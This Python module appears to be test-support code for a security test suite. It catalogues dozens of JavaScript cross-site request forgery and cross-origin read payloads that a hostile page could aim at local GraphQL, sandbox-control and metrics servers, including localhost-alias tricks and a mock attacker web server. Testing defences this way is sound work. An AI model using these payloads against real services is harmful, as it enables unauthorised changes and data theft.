"""What a page of another site may try against the servers of this machine: scripts, and the site that serves them.

Each attack is the body of a function in the attacker's page. It knows the addresses UI, SANDBOX, METRICS and SITE (its own),
the texts `mutation` (adds a partition of the attack's own name) and READ, and hands what it could read to `steal`.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import parse_qs, urlsplit

ADD_PARTITION = """mutation { addDynamicPartition(partitionKey: "KEY", partitionsDefName: "eurostat_dataset",
 repositorySelector: {repositoryName: "__repository__", repositoryLocationName: "eurostat_assets"})
 { __typename } }"""
READ = "{ runsOrError(limit: 1) { ... on Runs { results { id } } } }"

PRELUDE = """
const address = UI + '/graphql?query=' + encodeURIComponent(mutation), graphql = UI + '/graphql';
const body = JSON.stringify({query: mutation}), asJson = {'Content-Type': 'application/json'};
const reading = UI + '/graphql?query=' + encodeURIComponent(READ);
const add = (tag, properties) => {
  const one = document.createElement(tag); Object.assign(one, properties); document.body.append(one); return one };
const inFrame = (script, properties) => add('iframe', {...properties, srcdoc: `<script>${script}<\\/script>`});
const form = (method, action, enctype, fields) => {
  const name = 'f' + Math.random(); add('iframe', {name});
  const one = add('form', {method, action, enctype, target: name});
  for (const [key, value] of Object.entries(fields)) {
    const field = document.createElement('input'); field.name = key; field.value = value; one.append(field) }
  one.submit() };
const text = (promise) => promise.then(r => r.text()).then(steal);
const post = (url, options) => fetch(url, {method: 'POST', mode: 'no-cors', body, ...options});
const speculate = (rules) => add('script', {type: 'speculationrules', textContent: JSON.stringify(rules)});
const request = (method, url, body) => { const x = new XMLHttpRequest(); x.open(method, url);
  x.onload = () => steal(x.responseText); if (body) x.setRequestHeader('Content-Type', 'application/json'); x.send(body) };
const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
const talk = (protocol, start) => {
  const s = new WebSocket(graphql.replace('http', 'ws'), protocol);
  s.onmessage = m => steal(m.data);
  s.onopen = () => { steal('a web socket is open'); s.send(JSON.stringify({type: 'connection_init', payload: {}}));
    setTimeout(() => s.send(JSON.stringify({id: '1', type: start, payload: {query: mutation, variables: {}}})), 300) } };
"""

ATTACKS = {
    # what a page embeds
    "image": "new Image().src = address",
    "script": "add('script', {src: address})",
    "style sheet": "add('link', {rel: 'stylesheet', href: address})",
    "style import": "add('style', {textContent: `@import url('${address}')`})",
    "background": "add('p', {textContent: 'x'}).style.backgroundImage = `url('${address}')`",
    "object": "add('object', {data: address, type: 'text/html'})",
    "embed": "add('embed', {src: address, type: 'text/html'})",
    "video": "add('video', {src: address, autoplay: true})",
    "audio": "add('audio', {src: address, preload: 'auto', crossOrigin: 'use-credentials'})",
    "frame": "add('iframe', {src: address})",
    "credentialless frame": "add('iframe', {credentialless: true, src: address})",
    "icon": "add('link', {rel: 'icon', href: address})",
    "prefetch": "add('link', {rel: 'prefetch', href: address})",
    "preload": "add('link', {rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: address})",
    "module preload": "add('link', {rel: 'modulepreload', href: address})",
    "prerender": "speculate({prerender: [{urls: [address]}]})",
    "prefetch rule": "speculate({prefetch: [{urls: [address]}]})",
    "picture of a vector": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${address}'/></svg>`)",
    "import": "await import(address)",
    "import in a worker": "worker(`importScripts(${JSON.stringify(address)})`)",
    "refresh in a frame": "add('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${address}'>`})",
    "window": "window.open(address)",
    "window without opener": "window.open(address, '_blank', 'noopener')",
    "ping": "const a = add('a', {href: '#', ping: address}); a.click()",
    # forms
    "form get": "form('GET', graphql, '', {query: mutation})",
    "form post": "form('POST', graphql, 'application/x-www-form-urlencoded', {query: mutation})",
    "form multipart": "form('POST', graphql, 'multipart/form-data', {operations: body, map: '{}', query: mutation})",
    "form text": "form('POST', graphql, 'text/plain', {[body.slice(0, -1) + ',\"x\":\"']: '\"}'})",
    "form address": "form('POST', address, 'text/plain', {x: 'y'})",
    "form in a sandbox": "add('iframe', {sandbox: 'allow-scripts allow-forms', srcdoc:"
    " `<form method=POST action='${address}'></form><script>document.forms[0].submit()<\\/script>`})",
    # fetch and its elders
    "fetch get": "await fetch(address, {mode: 'no-cors', credentials: 'include'})",
    "fetch get cors": "await text(fetch(address))",
    "fetch head": "await fetch(address, {method: 'HEAD', mode: 'no-cors'})",
    "fetch text": "await post(graphql, {})",
    "fetch address": "await post(address, {body: undefined})",
    "fetch form": "await post(graphql, {body: new URLSearchParams({query: mutation})})",
    "fetch multipart": "const data = new FormData(); data.append('operations', body); await post(graphql, {body: data})",
    "fetch without type": "await post(address, {body: new Blob([body])})",
    "fetch json": "await text(post(graphql, {mode: 'cors', headers: asJson}))",
    "fetch graphql": "await text(post(graphql, {mode: 'cors', headers: {'Content-Type': 'application/graphql'},"
    " body: mutation}))",
    "fetch put": "await text(post(address, {method: 'PUT', mode: 'cors', headers: {'X-HTTP-Method-Override': 'POST'}}))",
    "fetch list": "await text(post(graphql, {mode: 'cors', headers: asJson, body: JSON.stringify([{query: mutation}])}))",
    "fetch keepalive": "await post(address, {keepalive: true})",
    "fetch in a sandbox": "inFrame(`fetch(${JSON.stringify(address)}, {method: 'POST', mode: 'no-cors'})`,"
    " {sandbox: 'allow-scripts'})",
    "fetch in a document": "inFrame(`fetch(${JSON.stringify(graphql)}, {method: 'POST', mode: 'no-cors',"
    " body: ${JSON.stringify(body)}})`)",
    "fetch in data": "add('iframe', {src: 'data:text/html,' + encodeURIComponent("
    "`<script>fetch(${JSON.stringify(address)}, {method: 'POST', mode: 'no-cors'})<\\/script>`)})",
    "fetch in a blob": "add('iframe', {src: URL.createObjectURL(new Blob(["
    "`<script>fetch(${JSON.stringify(address)}, {method: 'POST', mode: 'no-cors'})<\\/script>`], {type: 'text/html'}))})",
    "fetch in a worker": "worker(`fetch(${JSON.stringify(address)}, {method: 'POST', mode: 'no-cors'})`)",
    "service worker": "await navigator.serviceWorker.register('/worker.js?' + encodeURIComponent(address))",
    "request": "request('POST', graphql, body)",
    "request with cookies": "const x = new XMLHttpRequest(); x.open('POST', address); x.withCredentials = true;"
    " x.onload = () => steal(x.responseText); x.send('x')",
    "beacon": "navigator.sendBeacon(address, 'x')",
    "beacon json": "navigator.sendBeacon(graphql, new Blob([body], {type: 'application/json'}))",
    "event source": "new EventSource(address).onmessage = m => steal(m.data)",
    "redirect": "new Image().src = SITE + '/302?to=' + encodeURIComponent(address)",
    "redirect of a post": "await post(SITE + '/307?to=' + encodeURIComponent(graphql), {})",
    "redirect of a form": "form('POST', SITE + '/308?to=' + encodeURIComponent(address), 'text/plain', {x: 'y'})",
    # web sockets
    "socket": "talk('graphql-ws', 'start')",
    "socket of the newer protocol": "talk('graphql-transport-ws', 'subscribe')",
    "socket without protocol": "talk([], 'start')",
    # other addresses of the UI
    "report": "await post(UI + '/report_asset_materialization/eurostat_dataset?partition=KEY', {})",
    "report a check": "await post(UI + '/report_asset_check/eurostat_dataset?check_name=KEY&passed=true', {})",
    "report an observation": "await post(UI + '/report_asset_observation/eurostat_dataset?partition=KEY', {})",
    # other names of this machine
    **{
        f"by {name}": f"await post(address.replace('127.0.0.1', '{name}'), {{}});"
        f" await text(fetch(reading.replace('127.0.0.1', '{name}')))"
        for name in (
            "localhost", "LOCALHOST", "localhost.", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "127.1", "2130706433",
            "0x7f.1", "0177.0.0.1", "user@127.0.0.1", "x.localhost", "localhost.attacker.example",
        )
    },
    # reading
    "read": "await text(fetch(reading))",
    "read by post": "await text(post(graphql, {mode: 'cors', headers: asJson, body: JSON.stringify({query: READ})}))",
    "read a part": "await text(fetch(reading, {headers: {Range: 'bytes=0-99'}}))",
    "read info": "await text(fetch(UI + '/server_info'))",
    "read a request": "request('GET', reading)",
    "read a frame": "const f = add('iframe', {src: UI + '/runs'});"
    " f.onload = () => { if (f.contentWindow.length) steal('frames'); steal(f.contentDocument?.body.innerText) }",
    "read a window": "const w = window.open(UI + '/runs'); setTimeout(() => { try { steal(w.document.title) } catch {}"
    " if (w.length) steal('frames of a window') }, 2500)",
    "read messages": "addEventListener('message', m => { if (m.origin == UI) steal(JSON.stringify(m.data)) });"
    " add('iframe', {src: UI + '/'}).onload = e => e.target.contentWindow.postMessage({query: READ}, '*')",
    "read a script": "addEventListener('error', e => { if (e.filename?.startsWith(UI)) steal(e.message) });"
    " add('script', {src: reading}); add('script', {src: reading, crossOrigin: 'anonymous'})",
    "read a size": "const i = add('img', {src: UI + '/favicon.png'}); i.onload = () => steal(`${i.naturalWidth} pixels`)",
    "read a measure": "await fetch(reading, {mode: 'no-cors'}).catch(() => 0);"
    " for (const e of performance.getEntriesByName(reading)) if (e.encodedBodySize) steal(`${e.encodedBodySize} bytes`)",
    "read a style": "add('link', {rel: 'stylesheet', href: reading}).onload ="
    " e => steal(e.target.sheet.cssRules.length + ' rules')",
    # the sandbox's control, and the metrics
    "sandbox release": "await post(SANDBOX + '/sandbox/release', {body: JSON.stringify({codes: ['HLTH_RS_BDS']})})",
    "sandbox release as json": "await text(post(SANDBOX + '/sandbox/release', {mode: 'cors', headers: asJson,"
    " body: JSON.stringify({codes: ['HLTH_RS_BDS']})}))",
    "sandbox withdraw by a form": "form('POST', SANDBOX + '/sandbox/withdraw', 'text/plain',"
    " {'{\"codes\": [\"HLTH_RS_BDS\"], \"x\": \"': '\"}'})",
    "sandbox clock": "navigator.sendBeacon(SANDBOX + '/sandbox/clock', JSON.stringify({now: '2030-01-01T00:00:00+00:00'}))",
    "sandbox state": "await text(fetch(SANDBOX + '/sandbox/state'))",
    "metrics": "await text(fetch(METRICS + '/metrics'))",
    "metrics by a request": "request('GET', METRICS + '/')",
    "metrics in a frame": "const f = add('iframe', {src: METRICS + '/metrics'});"
    " f.onload = () => steal(f.contentDocument?.body.innerText)",
}  # fmt: skip


def all_at_once(place: str, addresses: dict[str, str]) -> str:
    """Return a script that begins every attack, in a page at `place`; what was read is in `window.stolen`, by attack."""
    constants = "".join(f"const {name} = {json.dumps(value)};" for name, value in addresses.items())
    begun = []
    for name, attack in ATTACKS.items():
        key = key_of(place, name)
        begun.append(
            f"(async (mutation, steal) => {{ {PRELUDE} {attack.replace('KEY', key)} }})"
            f"({json.dumps(ADD_PARTITION.replace('KEY', key))},"
            f" t => {{ if (t) window.stolen[{json.dumps(name)}] = `${{t}}` }})"
            ".catch(() => 0);"
        )
    return f"() => {{ window.stolen = {{}}; const READ = {json.dumps(READ)}; {constants} {''.join(begun)} }}"


def key_of(place: str, attack: str) -> str:
    """Return the partition that an attack adds where it succeeds."""
    return f"ATTACK {place} {attack}".upper().replace(" ", "_")


class _Site(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        if parts.path in ("/302", "/307", "/308"):
            self.send_response(int(parts.path[1:]))
            self.send_header("Location", parse_qs(parts.query)["to"][0])
            self.end_headers()
            return
        script = "fetch(decodeURIComponent(location.search.slice(1)), {method: 'POST', mode: 'no-cors', body: 'x'})"
        is_script = parts.path == "/worker.js"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_script else "text/html")
        self.end_headers()
        self.wfile.write(
            script.encode() if is_script else b"<!doctype html><title>attacker</title><body><p>x"
        )

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.do_GET()

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (the base class names it)
        """Say nothing."""


@contextmanager
def attackers_site() -> Iterator[int]:
    """A web site of somebody else's on this machine; its port."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()
